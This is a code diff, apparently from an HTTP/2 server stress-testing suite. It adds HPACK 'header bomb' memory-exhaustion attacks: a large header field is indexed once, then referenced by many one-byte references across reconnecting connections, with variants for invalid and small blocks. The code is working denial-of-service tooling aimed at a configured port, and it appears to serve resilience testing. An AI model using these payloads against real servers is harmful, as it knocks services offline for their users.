@@ -135,19 +135,37 @@ def indexed_headers(context):
     hold_indexed(context, context.choose(40, 16), "x-large", b"h" * 4_000, 3, 1_000)
 
 
-@attack("header-bombs", "memory", seconds=10, is_about_memory=True)
-def header_bombs(context):
-    """16 KB of one-byte references to a field of 4 KB on every stream: 64 MB each if anything is kept."""
+def bomb(context, value, count, blocks):
+    """Sends a field once, then blocks of one-byte references to it, again and again, on 4 connections."""
     def refill(connection):
         out = b""
         if connection.next_stream == 1:
             out = frame(HEADERS, END_HEADERS, connection.stream(), indexed(3) + indexed(6)
-                        + literal(":path", "/x") + indexing("x-large", b"h" * 4_000))
-        return out + frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), path_first(16_000))
+                        + literal(":path", "/x") + indexing("x-large", value))
+        return out + b"".join(
+            frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), path_first(count)) for _ in range(blocks))
 
     crowd = Crowd(lambda: Connection(context.port, refill=refill, source=context.source), 4, reopens_per_second=50)
     crowd.run(context.until)
     context.note(f"{crowd.cuts} cuts")
+
+
+@attack("header-bombs", "memory", seconds=10, is_about_memory=True)
+def header_bombs(context):
+    """16 KB of one-byte references to a field of 4 KB on every stream: 64 MB each if anything is kept."""
+    bomb(context, b"h" * 4_000, 16_000, 1)
+
+
+@attack("invalid-bombs", "memory", seconds=10, is_about_memory=True)
+def invalid_bombs(context):
+    """The same with a field that HTTP/2 forbids for its last byte, and that is therefore left out."""
+    bomb(context, b"h" * 3_999 + b"\0", 16_000, 1)
+
+
+@attack("small-bombs", "memory", seconds=10, is_about_memory=True)
+def small_bombs(context):
+    """The same in many blocks of 28 references, each of which is only seven times too large."""
+    bomb(context, b"h" * 4_000, 28, 400)
 
 
 @attack("table-churn", "memory", seconds=8)
